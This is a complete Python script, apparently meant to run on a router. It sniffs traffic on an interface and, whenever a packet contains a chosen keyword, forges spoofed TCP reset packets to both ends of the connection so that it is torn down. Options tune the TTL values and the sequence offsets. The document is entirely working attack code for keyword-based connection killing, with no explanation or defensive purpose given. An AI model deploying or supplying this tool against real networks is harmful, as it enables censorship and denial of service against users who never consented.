# python3 device.py INTERFACE WORD [--ttl N,N…] [--ttl-server N,N…] [--to client|server|both] [--seq OFFSET]
# Stands on a router: as soon as a packet with WORD passes the interface, it sends resets in the name of both ends.
# Root; Linux (packet(7), raw(7)).
import argparse
import socket
import struct

parser = argparse.ArgumentParser()
parser.add_argument("interface")
parser.add_argument("word")
parser.add_argument("--ttl", default="64", help="of the resets; one is sent for each")
parser.add_argument("--ttl-server", help="of those to the server, where they differ")
parser.add_argument("--to", choices=["client", "server", "both"], default="both")
parser.add_argument("--seq", type=int, default=0, help="how far the sequence numbers are off")
options = parser.parse_args()

ETH_P_ALL = 3
sniffer = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(ETH_P_ALL))
sniffer.bind((options.interface, ETH_P_ALL))
sender = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def reset(source, source_port, target, target_port, seq, ack, ttl):
    """RST and ACK without options, with an IP identification of 0 (RFC 9293 3.1, RFC 791 3.1)."""
    ports = struct.pack("!HH", source_port, target_port)
    tcp = ports + struct.pack("!IIBBHHH", seq & 0xFFFFFFFF, ack & 0xFFFFFFFF, 5 << 4, 4 | 16, 0, 0, 0)
    pseudo = source + target + struct.pack("!BBH", 0, socket.IPPROTO_TCP, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), 0, 0, ttl, socket.IPPROTO_TCP, 0, source, target)
    sender.sendto(ip + tcp, (socket.inet_ntoa(target), 0))


print("watching", flush=True)
while True:
    packet, address = sniffer.recvfrom(65535)
    if address[2] == socket.PACKET_OUTGOING or options.word.encode() not in packet:
        continue
    start = (packet[0] & 15) * 4
    source, target = packet[12:16], packet[16:20]
    source_port, target_port, seq, ack = struct.unpack("!HHII", packet[start : start + 12])
    length = struct.unpack("!H", packet[2:4])[0] - start - (packet[start + 12] >> 4) * 4
    after = seq + length
    if options.to != "server":
        for ttl in options.ttl.split(","):
            reset(target, target_port, source, source_port, ack + options.seq, after, int(ttl))
    if options.to != "client":
        for ttl in (options.ttl_server or options.ttl).split(","):
            reset(source, source_port, target, target_port, after + options.seq, ack, int(ttl))
    print("hung up in their names", flush=True)
